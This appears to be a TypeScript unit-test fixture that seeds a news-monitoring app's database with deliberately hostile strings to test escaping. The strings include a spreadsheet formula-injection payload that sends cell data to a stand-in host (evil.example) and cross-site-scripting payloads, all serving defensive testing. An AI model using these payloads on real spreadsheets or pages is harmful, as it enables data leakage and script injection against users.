// For unit tests only: a memory with hostile content — quotes, newlines, commas, formulas, HTML,
// emoji and right-to-left text — written through the store's own functions, at fixed times.
import { recordVisit } from '../store/articles';
import { createNote, deleteNote } from '../store/notes';
import type { LagebildDB } from '../store/schema';
import { freshDb } from '../store/test-db';

export const T0 = Date.UTC(2024, 8, 18, 7, 15, 0, 123);
export const EXPORTED_AT = Date.UTC(2026, 10, 23, 23, 59, 0, 0);

export const HOSTILE = {
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")',
  html: '<script>alert("x")</script><b>fett</b> & <img src=x onerror=alert(1)>',
  multiline: 'Erste Zeile, mit Komma\nzweite "Zeile"\r\ndritte; Zeile',
  emoji: 'Drohnen 🚀🇺🇦 über Kiew 👩‍👩‍👧',
  rtl: 'الحرس الثوري الإيراني — צה״ל',
  markdown: '# Kein Titel *fett* [Link](javascript:alert(1)) | Tabelle | `code`',
};

export const ARTICLE_A = {
  url: 'https://morgenkurier.example/ausland/schoigu-iran-nordkorea-100.html',
  title: 'Shoigu traf "wenige Tage" nach Nordkorea im Iran ein, sagt =SUM(A1)',
  site: 'Der Morgenkurier',
  lang: 'de',
  author: 'Jana Wolff',
  published: '2024-09-18T07:15:00.000Z',
};

export const ARTICLE_B = {
  url: 'https://news.example/en/irgc-drones?id=1&x="y"',
  title: `${HOSTILE.html} ${HOSTILE.rtl}`,
  site: 'News, Example',
  lang: 'en',
};

/** Two articles, five mentions, four live notes and one deleted, one own entity. */
export async function hostileDb(): Promise<LagebildDB> {
  const db = await freshDb();
  await fill(db);
  return db;
}

export async function fill(db: LagebildDB): Promise<void> {
  const a = await recordVisit(db, {
    meta: ARTICLE_A,
    mentions: [
      { entityId: 'sergei-shoigu', count: 4, snippets: ['Der russische Sicherheitsratschef Schoigu traf in Teheran ein.', HOSTILE.formula], firstOffset: 40 },
      { entityId: 'iran', count: 6, snippets: ['Schoigu traf im Iran ein, sagt "die Agentur".'], firstOffset: 20 },
      { entityId: 'shahed-136', count: 1, snippets: [HOSTILE.emoji], firstOffset: 300 },
    ],
  }, T0);
  const b = await recordVisit(db, {
    meta: ARTICLE_B,
    mentions: [
      { entityId: 'irgc', count: 2, snippets: [`The IRGC said, ${HOSTILE.rtl}`], firstOffset: 4 },
      { entityId: 'iran', count: 1, snippets: ['+49 Iran -1 @all'], firstOffset: 12 },
      { entityId: 'own:drone-unit', count: 1, snippets: ['Rubikon-like unit'], firstOffset: 50 },
    ],
  }, T0 + 86_400_000);
  if (!a.ok || !a.value || !b.ok || !b.value) throw new Error('could not record the test articles');
  await db.ownEntities.add({ id: 'own:drone-unit', type: 'organization', names: ['Drohneneinheit "Nord"', 'Unit North'], description: HOSTILE.multiline, created: T0, updated: T0 });
  const notes = [
    { text: HOSTILE.multiline, entityId: 'sergei-shoigu' },
    { text: HOSTILE.formula, articleId: a.value.articleId, entityId: 'iran', quote: { exact: 'Schoigu traf im Iran ein', prefix: 'Teheran. ', suffix: ', sagt' }, position: { start: 20, end: 44 } },
    { text: `${HOSTILE.html} ${HOSTILE.markdown}`, articleId: b.value.articleId, quote: { exact: HOSTILE.rtl, prefix: 'The IRGC said, ', suffix: '' }, position: { start: 19, end: 19 + HOSTILE.rtl.length } },
    { text: HOSTILE.emoji, entityId: 'irgc' },
    { text: 'gelöscht', entityId: 'iran' },
  ];
  let t = T0 + 2 * 86_400_000;
  const ids: string[] = [];
  for (const n of notes) {
    const created = await createNote(db, n, (t += 60_000));
    if (!created.ok) throw new Error(created.error.message);
    ids.push(created.value.id);
  }
  await deleteNote(db, ids[4]!, t + 60_000);
}
